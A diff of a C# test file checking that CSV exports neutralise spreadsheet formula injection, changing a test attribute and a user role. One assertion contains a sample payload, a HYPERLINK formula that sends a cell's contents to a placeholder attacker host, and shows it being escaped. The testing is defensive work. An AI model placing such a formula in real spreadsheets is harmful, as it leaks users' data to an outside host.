@@ -36,8 +36,7 @@ public sealed class FormulaInjectionTests
     public void A_text_that_would_start_a_formula_is_prefixed_with_a_single_quote(string given, string expected) =>
         Assert.Equal(expected, SpreadsheetText.Neutralise(given));
 
-    [Theory]
-    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
+    [Fact]
     public void A_csv_text_field_is_neutralised_then_quoted_and_a_number_stays_a_number()
     {
         Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2;\"\"click\"\")\"", SpreadsheetText.CsvField(Hyperlink));
@@ -50,7 +49,7 @@ public sealed class FormulaInjectionTests
     {
         await using var factory = await WenjiuFactory.CreateAsync(provider);
         var runId = await ImportUploadTests.AddFinishedRunAsync(factory, ("uscc", Hyperlink, "uscc_length"), ("district", Command, "district_unknown"), ("employees", "-3", "negative"));
-        using var staff = await SignedInClient.CreateAsync(factory, Roles.ServiceSpecialist);
+        using var staff = await SignedInClient.CreateAsync(factory, Roles.PolicyOfficer);
 
         using var response = await staff.GetAsync($"/api/v1/imports/{runId}/errors.csv");
         var lines = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync()).TrimStart('\uFEFF').Split("\r\n");
